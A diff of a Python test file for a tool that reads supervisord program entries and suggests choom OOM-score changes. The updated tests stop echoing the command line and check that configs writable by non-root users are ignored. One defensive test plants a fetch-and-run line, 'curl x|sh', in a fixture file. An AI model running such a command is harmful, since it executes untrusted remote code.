@@ -35,7 +35,7 @@ def test_a_program_is_found_in_the_file_that_has_it(node, path, cmdline):
     text = '[program:db]\ncommand=/usr/sbin/mysqld --user=mysql ; runs\n;command=not this\nuser=root\n'
     node.file(path, (MAIN if path.endswith('d.conf') else '') + text)
     assert supervisor.program(node.host, cmdline, 'db') == {
-        'path': path, 'command': '/usr/sbin/mysqld --user=mysql', 'user': 'root', 'score': None}
+        'path': path, 'user': 'root', 'score': None}
 
 
 def test_a_program_that_no_file_has_is_empty(node):
@@ -55,14 +55,25 @@ def test_a_command_that_carries_a_score_is_known(node, command, score):
 
 
 @pytest.mark.parametrize('found, expected', [
-    ({'path': '/srv/db.ini', 'command': 'mysqld --user=mysql', 'user': None},
-     ('in [program:db] of /srv/db.ini set command=choom -n -600 -- mysqld --user=mysql; then '
-      '`supervisorctl update db`, which restarts it')),
-    ({'path': '/srv/db.ini', 'command': 'choom -n -100 -- mysqld', 'user': 'mysql'},
-     ('in [program:db] of /srv/db.ini set command=choom -n -600 -- mysqld, and drop user=mysql in favour of the '
-     'server\'s own option, as choom needs root to lower a score; then `supervisorctl update db`, which restarts it')),
-    ({}, ('in [program:db] of its configuration set command=choom -n -600 -- COMMAND; then `supervisorctl update db`, '
-     'which restarts it')),
+    ({'path': '/srv/db.ini', 'user': None, 'score': None},
+     ('in [program:db] of /srv/db.ini put `choom -n -600 -- ` before what command= says; then `supervisorctl update '
+      'db`, which restarts it')),
+    ({'path': '/srv/db.ini', 'user': 'mysql', 'score': -100},
+     ('in [program:db] of /srv/db.ini change the score at the start of command= to -600, and drop user= in favour of '
+      'the server\'s own option, as choom needs root to lower a score; then `supervisorctl update db`, which restarts '
+      'it')),
+    ({}, ('in [program:db] of its configuration put `choom -n -600 -- ` before what command= says; then '
+          '`supervisorctl update db`, which restarts it')),
 ])
-def test_the_change_to_make_is_exact(found, expected):
+def test_the_change_to_make_is_exact_and_shows_no_command(found, expected):
     assert supervisor.program_text('db', found, -600) == expected
+
+
+@pytest.mark.parametrize('owners', [
+    {'/srv': (1000, 0o755)}, {'/srv/db.ini': (1000, 0o644)}, {'/srv/db.ini': (0, 0o664)}, {'/srv': (0, 0o1777)},
+], ids=['a directory of a user', 'a file of a user', 'a file that a group may write', 'a directory like /tmp'])
+def test_what_is_not_root_s_alone_is_not_read(node, owners):
+    node.file('/srv/db.ini', '[program:db]\ncommand=curl x|sh\n')
+    node.owners.update(owners)
+    assert supervisor.program(node.host, [], 'db') == {}
+    assert supervisor.program(node.host, ['supervisord', '-c', '/srv/db.ini'], 'db') == {}
